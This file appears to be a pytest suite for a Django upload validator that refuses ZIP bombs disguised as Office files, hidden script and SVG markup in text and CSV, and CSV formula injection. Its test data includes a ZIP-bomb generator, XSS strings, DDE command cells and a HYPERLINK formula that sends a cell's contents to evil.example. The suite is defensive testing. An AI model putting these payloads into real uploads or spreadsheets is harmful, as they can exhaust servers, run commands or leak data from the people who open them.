"""Uploads that attack the reader (issue 11, W3 and W4): ZIP bombs shaped as Office files, checked by their
directory; text and CSV checked whole for markup; CSV cells a spreadsheet would run as formulas refused."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from core.validation import ArchiveLimits, check_archive
from documents import services
from documents.models import Material, MaterialVersion
from documents.validation import check_upload

from .conftest import ooxml_bytes, stored_files, upload

GB = 1024**3


def _bomb(unpacked: int = GB) -> bytes:
    """A workbook-shaped ZIP (filetype reads it as .xlsx) whose sheet is `unpacked` zero bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        package.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        package.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        zeros = bytes(1024 * 1024)
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(unpacked // len(zeros)):
                sheet.write(zeros)
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return _bomb()


def test_the_bomb_is_what_the_issue_describes(bomb):
    assert len(bomb) < 1.5 * 1024 * 1024  # about 1 MB on disk
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size == GB


def test_a_zip_bomb_named_xlsx_is_refused_and_nothing_is_stored(bomb, meeting, secretariat, media_root):
    with pytest.raises(ValidationError) as refused:
        services.material_create(actor=secretariat, meeting=meeting, title="名簿", upload=upload("名簿.xlsx", bomb))
    assert refused.value.code == "archive_size"
    assert "Unpacked, the file would be 1.0\xa0GB" in refused.value.messages[0]
    assert not Material.objects.exists() and not MaterialVersion.objects.exists()
    assert stored_files(media_root) == []


def test_under_a_generous_size_limit_the_ratio_still_refuses_it(bomb, settings):
    settings.DXPLAN_ARCHIVE_MAX_BYTES = 4 * GB
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("名簿.xlsx", bomb))
    assert refused.value.code == "archive_ratio"
    assert "ZIP bomb" in refused.value.messages[0]


def test_too_many_parts_are_refused(settings):
    settings.DXPLAN_ARCHIVE_MAX_ENTRIES = 50
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("_rels/.rels", "<Relationships/>")
        package.writestr("word/document.xml", "<document/>")
        for n in range(60):
            package.writestr(f"word/media/image{n}.png", b"x")
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("設置要綱.docx", out.getvalue()))
    assert refused.value.code == "archive_entries"


def test_a_well_compressed_small_part_is_not_a_bomb():
    """Repeated XML compresses far beyond the ratio; under the floor (1 MB unpacked) that is fine."""
    data = ooxml_bytes("word/document.xml")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        with zipfile.ZipFile(io.BytesIO(data)) as source:
            for info in source.infolist():
                package.writestr(info.filename, source.read(info.filename))
        package.writestr("word/styles.xml", "<w:style/>" * 50_000)  # 500 KB, packs to about 1 KB
    assert check_upload(upload("設置要綱.docx", out.getvalue())).extension == "docx"


def test_check_archive_refuses_what_is_not_a_zip():
    with pytest.raises(ValidationError) as refused:
        check_archive(io.BytesIO(b"PK\x03\x04 not really"), limits=ArchiveLimits(10, 10, 10))
    assert refused.value.code == "archive"


@pytest.mark.django_db
def test_a_zip_bomb_as_a_roster_workbook_is_refused(bomb, body, secretariat):
    from committee.resources import RosterImportError, read_dataset

    with pytest.raises(RosterImportError) as refused:
        read_dataset(bomb, "名簿.xlsx")
    assert "Unpacked, the file would be" in refused.value.message


# --- text and CSV, read whole ---------------------------------------------------------------------

FILLER = ("番号,氏名,所属\n" + "1,森 樹男,弘前大学\n" * 2000).encode()  # about 50 KB, past the old 8 KB look
assert len(FILLER) > 8192


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("メモ.txt", FILLER + b"<script>alert(1)</script>\n"),
        ("名簿.csv", FILLER + b'2,"<svg onload=alert(1)>",x\n'),
        ("名簿.csv", FILLER + b"<!DOCTYPE html><html></html>\n"),
        ("メモ.txt", "委員会の記録\n".encode("cp932") * 3000 + b"<iframe src=x>"),  # Shift_JIS
        ("メモ.txt", FILLER + b"\x00\x00binary tail"),
        ("メモ.txt", FILLER + b"\x80\x81\xfe\xff"),  # stops decoding after the first 8 KB
    ],
)
def test_markup_or_binary_after_the_first_8_kb_is_refused(name, data, meeting, secretariat, media_root):
    with pytest.raises(ValidationError) as refused:
        services.material_create(actor=secretariat, meeting=meeting, title="資料", upload=upload(name, data))
    assert refused.value.code == "content"
    assert stored_files(media_root) == []


def test_markup_cut_between_two_chunks_is_found():
    chunk = 64 * 1024  # Django's default chunk size for uploads
    data = b"a" * (chunk - 4) + b"<script>alert(1)</script>"
    assert data[chunk - 4 : chunk] == b"<scr"
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("メモ.txt", data))
    assert refused.value.code == "content"


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
    ],
)
def test_a_csv_cell_with_a_formula_is_refused(cell, meeting, secretariat, media_root):
    quoted = '"' + cell.replace('"', '""') + '"'
    data = FILLER + f"2,{quoted},青森県\n".encode()
    with pytest.raises(ValidationError) as refused:
        services.material_create(actor=secretariat, meeting=meeting, title="名簿", upload=upload("名簿.csv", data))
    assert refused.value.code == "formula"
    assert refused.value.messages[0].startswith("Row 2002, column 2 starts with")
    assert not Material.objects.exists()
    assert stored_files(media_root) == []


def test_a_csv_starting_with_a_formula_is_refused():
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("名簿.csv", b"=cmd|' /C calc'!A0,x\n1,2\n"))
    assert refused.value.code == "formula"
    assert refused.value.messages[0].startswith("Row 1, column 1 starts with")


def test_a_formula_in_a_shift_jis_csv_is_refused():
    data = ("番号,氏名\n" + "1,森 樹男\n" * 3000 + "2,=1+2\n").encode("cp932")
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("名簿.csv", data))
    assert refused.value.code == "formula"


def test_numbers_phone_numbers_and_dashes_are_not_formulas():
    data = "番号,金額,電話,備考\n1,-500,+81-3-1234-5678,-\n2,+1200,(017)734-9000,－\n".encode()
    assert check_upload(upload("名簿.csv", data)).extension == "csv"


def test_a_formula_in_a_text_file_is_only_text():
    """Spreadsheets open .csv files, not .txt: an equals sign in a note is harmless there."""
    assert check_upload(upload("メモ.txt", "=1+1 と書くと計算式になります。\n".encode())).extension == "txt"
